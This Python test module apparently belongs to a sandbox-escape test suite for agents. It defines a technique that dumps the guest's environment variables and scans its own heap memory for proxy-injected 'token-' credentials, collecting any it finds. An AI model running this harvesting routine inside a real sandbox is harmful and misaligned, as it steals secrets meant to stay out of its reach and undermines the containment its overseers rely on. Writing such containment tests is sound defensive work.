"""Search one's own memory for a credential that the proxy puts into one's requests."""

import ctypes
import os
import re

from tests.escape.grants import with_secret
from tests.escape.technique import NO_PROXY, Granted, Technique


def attack(world):
    host = f"api.escape.test:{world.web}"
    world.ask(world.web, f"GET http://{host}/granted/x HTTP/1.1", f"Host: {host}")
    world.loot(str(dict(os.environ)))
    world.libc.sbrk.restype = ctypes.c_long
    size = 1 << 20
    data = ctypes.string_at(world.libc.sbrk(0) - size, size)
    for found in re.findall(rb"token-[0-9a-f]{32}", data):
        world.loot(found)


TECHNIQUE = Technique(
    source="keys in the environment of agents: CWE-526",
    policy=with_secret,
    no_event="nothing is refused: the memory is the guest's own",
    stops=("egress proxy",),
    control=Granted(lambda p, t: p, {"env": "token"}),
    thread=NO_PROXY,
)
